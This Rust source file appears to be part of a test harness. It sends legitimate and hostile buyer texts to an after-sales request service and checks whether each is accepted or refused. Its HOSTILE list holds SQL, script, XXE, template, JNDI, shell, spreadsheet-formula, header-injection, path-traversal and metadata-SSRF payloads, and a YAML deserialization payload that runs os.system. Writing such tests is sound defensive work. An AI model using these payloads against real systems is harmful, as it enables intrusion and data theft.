//! What buyers may write, and what attackers do.

use super::kit::{Kit, is_refusal, receipt};
use super::ledger::Faults;
use super::sample::Sample;
use super::status;
use crate::wire::Answer;
use anyhow::Result;
use serde_json::Value;

/// Members that take any text of a buyer.
const FIELDS: [&str; 4] = ["order_reference", "name", "message", "statement_shown"];

/// What a call must lead to.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Wanted {
    Taken,
    TakenOrRefused,
}

/// Sends one request. Gives whether it was refused clearly.
async fn send(
    kit: &mut Kit,
    what: &str,
    sample: &Sample,
    wanted: Wanted,
    faults: &mut Faults,
) -> Option<Answer> {
    let answer = match kit.post(what, sample).await {
        Ok(answer) => answer,
        Err(seen) => {
            faults.broken(format!("{what}: {seen}"));
            return None;
        }
    };
    if let Some(first) = receipt(&answer, sample) {
        if kit.can_look_up {
            match kit.looked_up(sample).await {
                Ok(again) => faults.must(again == Some(first), || {
                    format!("{what}: the look-up gives another receipt")
                }),
                Err(seen) => faults.broken(format!("{what}: {seen}")),
            }
        }
    } else if answer.is_success() {
        faults.broken(format!("{what}: a receipt for other bytes"));
    } else if wanted == Wanted::Taken || !is_refusal(&answer) {
        faults.broken(format!("{what}: status {}", answer.status));
    }
    Some(answer)
}

/// Every text in every field: as many requests as texts, each text one field further. What is refused together is
/// tried field by field, so that no field hides another.
async fn each(
    kit: &mut Kit,
    texts: &[&str],
    wanted: Wanted,
    faults: &mut Faults,
) -> Result<Vec<String>> {
    let mut pages = Vec::new();
    for at in 0..texts.len() {
        let text = |field: usize| texts[(at + field) % texts.len()];
        let changes: Vec<(&str, Value)> = FIELDS
            .iter()
            .enumerate()
            .map(|(field, name)| (*name, text(field).into()))
            .collect();
        let sample = kit.samples.with(&changes)?;
        let what = format!("text {at}");
        let answer = send(kit, &what, &sample, Wanted::TakenOrRefused, faults).await;
        pages.extend(answer.as_ref().and_then(status::link));
        if answer.is_some_and(|answer| is_refusal(&answer)) {
            for (field, name) in FIELDS.iter().enumerate() {
                let sample = kit.samples.with(&[(name, text(field).into())])?;
                let what = format!("{name}, text {}", (at + field) % texts.len());
                send(kit, &what, &sample, wanted, faults).await;
            }
        }
        if kit.is_gone() {
            break;
        }
    }
    Ok(pages)
}

/// Names and sentences of honest people.
pub async fn legitimate(kit: &mut Kit) -> Result<()> {
    let mut faults = Faults::default();
    each(kit, LEGITIMATE, Wanted::Taken, &mut faults).await?;
    let told = format!("{} texts in {} fields", LEGITIMATE.len(), FIELDS.len());
    kit.ledger.close("legitimate-text", faults, told);
    Ok(())
}

/// Attacks. Gives the status pages of what was taken.
pub async fn hostile(kit: &mut Kit) -> Result<Vec<String>> {
    let mut faults = Faults::default();
    let pages = each(kit, HOSTILE, Wanted::TakenOrRefused, &mut faults).await?;
    let mut more = 0;
    for (name, raw) in ESCAPES {
        let sample = kit.samples.raw(name, raw)?;
        send(kit, "escapes", &sample, Wanted::TakenOrRefused, &mut faults).await;
        more += 1;
    }
    for text in [
        "a@b.invalid\r\nBcc: all@shop.invalid",
        "<x@b.invalid>",
        "x@b.invalid, y@b.invalid",
    ] {
        let sample = kit.samples.with(&[("email", text.into())])?;
        send(kit, "e-mail", &sample, Wanted::TakenOrRefused, &mut faults).await;
        more += 1;
    }
    let told = format!(
        "{} texts in {} fields, {more} others",
        HOSTILE.len(),
        FIELDS.len()
    );
    kit.ledger.close("hostile-text", faults, told);
    Ok(pages)
}

const LEGITIMATE: &[&str] = &[
    "O'Brien & Söhne GmbH",
    "Null",
    "Drop Table Ltd.",
    "<3 the blue one, not the red",
    "100 % = 5 > 3; thanks -- Anna",
    "=) all fine, +1",
    "-2 pieces were missing",
    "José Ñandú-D’Angelo",
    "王小明",
    "محمد عبد الله",
    "שלום",
    "👨‍👩‍👧‍👦 family order",
    "Select * and Union Street 1=1",
    "c:\\new\\table",
    "  spaces before and after  ",
    "00123",
    "line one\nline two\ttab",
];

const HOSTILE: &[&str] = &[
    "'; DROP TABLE requests; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1); DELETE FROM requests WHERE (1=1",
    "'||(SELECT sqlite_version())||'",
    "'; SELECT pg_sleep(5); --",
    "\\'; --",
    "%27%20OR%201=1",
    status::CANARY,
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "';alert(1)//",
    "</textarea><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<!--#exec cmd=\"id\"-->",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "${jndi:ldap://after-sales.invalid/a}",
    "$(id) `id` ; id | id && id",
    "() { :;}; echo vulnerable",
    "=HYPERLINK(\"http://after-sales.invalid\",\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\u{ff1d}1+1",
    "x\r\nSet-Cookie: stolen=1",
    "x\r\nBcc: all@shop.invalid\r\n\r\nbody",
    "x%0d%0aLocation:%20//after-sales.invalid",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/dev/null",
    "CON",
    "a\u{0}b",
    "\u{202e}gnp.exe",
    "\u{2066}left\u{2069}\u{200f}",
    "\u{200b}\u{feff}\u{2060}",
    "\u{1f4a9}\u{fffd}\u{10ffff}\u{fffe}",
    "Z\u{351}\u{36b}\u{343}\u{36a}A\u{334}\u{335}\u{31c}L",
    "\u{7f}\u{1b}[31mred\u{1b}[0m\u{8}\u{8}",
    "%s%s%s%n%x%d",
    "%00",
    "true",
    "{\"$ne\": null}",
    "*)(uid=*))(|(uid=*",
    "__proto__",
    "constructor.prototype.polluted",
    "O:8:\"stdClass\":0:{}",
    "!!python/object/apply:os.system ['id']",
    "1e309",
    "-0",
    "0x7fffffff",
    "9223372036854775808",
    " ",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\\u003cscript\\u003e",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
];

/// JSON texts with escapes that no writer makes.
const ESCAPES: [(&str, &str); 6] = [
    ("message", r#""half a pair: \ud83d""#),
    ("message", r#""the other half: \udca9""#),
    ("message", r#""wrong way round: \udca9\ud83d""#),
    ("message", r#""a pair: \ud83d\udca9""#),
    ("name", r#""\u0000\u0001\u001f""#),
    ("order_reference", r#""\u0041\/\b\f""#),
];
